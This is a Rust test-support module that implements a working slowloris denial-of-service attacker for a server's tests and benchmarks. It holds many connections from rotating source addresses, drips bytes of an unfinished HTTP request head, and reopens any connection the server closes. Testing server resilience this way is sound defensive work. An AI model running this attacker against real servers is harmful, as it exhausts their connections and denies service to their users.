//! Attackers for the server tests and benchmarks: a slowloris that holds many connections.

use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering::Relaxed};
use std::thread::JoinHandle;
use std::time::Duration;

/// What a slowloris sends on each socket, a byte per tick: a request head that never ends.
const HEAD: &[u8] = b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ";

/// Holds `sockets` connections to a server from the source addresses given (in turn, one
/// socket from each), sends each a byte of a never-ending request head every 100 ms (or
/// nothing, to hold TLS handshakes pending), and opens a new one whenever the server closes
/// one: the attack of issue 14, item 5. Stops, closing them all, when dropped.
#[derive(Debug)]
pub struct Slowloris {
    stop: Arc<AtomicBool>,
    open: Arc<AtomicUsize>,
    closed_by_server: Arc<AtomicUsize>,
    thread: Option<JoinHandle<()>>,
}

impl Slowloris {
    /// Starts holding `sockets` connections to `target` from the addresses `from`; `drip`
    /// sends head bytes, otherwise nothing is sent.
    pub fn start(target: SocketAddr, from: &[IpAddr], sockets: usize, drip: bool) -> Slowloris {
        assert!(!from.is_empty(), "a slowloris needs a source address");
        let from = from.to_vec();
        let stop = Arc::new(AtomicBool::new(false));
        let open = Arc::new(AtomicUsize::new(0));
        let closed_by_server = Arc::new(AtomicUsize::new(0));
        let thread = {
            let (stop, open, closed) = (
                Arc::clone(&stop),
                Arc::clone(&open),
                Arc::clone(&closed_by_server),
            );
            std::thread::spawn(move || {
                let mut held: Vec<(TcpStream, usize)> = Vec::with_capacity(sockets);
                let mut sources = from.iter().cycle();
                while !stop.load(Relaxed) {
                    while held.len() < sockets && !stop.load(Relaxed) {
                        let source = *sources.next().expect("a cycle of a non-empty list");
                        match connect_from(source, target) {
                            Ok(s) => held.push((s, 0)),
                            Err(_) => break,
                        }
                    }
                    open.store(held.len(), Relaxed);
                    held.retain_mut(|(s, sent)| {
                        let alive = still_open(s)
                            && (!drip || {
                                let b = HEAD.get(*sent).copied().unwrap_or(b'a');
                                *sent += 1;
                                s.write_all(&[b]).is_ok()
                            });
                        if !alive {
                            closed.fetch_add(1, Relaxed);
                        }
                        alive
                    });
                    std::thread::sleep(Duration::from_millis(100));
                }
            })
        };
        Slowloris {
            stop,
            open,
            closed_by_server,
            thread: Some(thread),
        }
    }

    /// Connections held open now.
    pub fn open(&self) -> usize {
        self.open.load(Relaxed)
    }

    /// Connections the server has closed so far (each was opened again).
    pub fn closed_by_server(&self) -> usize {
        self.closed_by_server.load(Relaxed)
    }
}

impl Drop for Slowloris {
    fn drop(&mut self) {
        self.stop.store(true, Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// A connection to `target` whose source address is `from` (any loopback address on Linux
/// reaches a server on 127.0.0.1, so tests can play several clients).
pub fn connect_from(from: IpAddr, target: SocketAddr) -> std::io::Result<TcpStream> {
    use rustix::net::{AddressFamily, SocketType, bind, connect, socket};
    let family = if from.is_ipv4() {
        AddressFamily::INET
    } else {
        AddressFamily::INET6
    };
    let fd = socket(family, SocketType::STREAM, None)?;
    bind(&fd, &SocketAddr::new(from, 0))?;
    // Linux bounds connect() by the send timeout: a full accept queue drops SYNs, and a
    // blocking connect would otherwise retry for minutes.
    rustix::net::sockopt::set_socket_timeout(
        &fd,
        rustix::net::sockopt::Timeout::Send,
        Some(Duration::from_secs(1)),
    )?;
    connect(&fd, &target)?;
    let s = TcpStream::from(fd);
    s.set_read_timeout(Some(Duration::from_secs(5)))?;
    Ok(s)
}

/// Whether the peer has not closed `s` (a read would block rather than see EOF or an error).
fn still_open(s: &mut TcpStream) -> bool {
    if s.set_nonblocking(true).is_err() {
        return false;
    }
    let mut b = [0u8; 512];
    let open = match s.read(&mut b) {
        Ok(0) => false,
        Ok(_) => true,
        Err(e) => e.kind() == ErrorKind::WouldBlock,
    };
    let _ = s.set_nonblocking(false);
    open
}
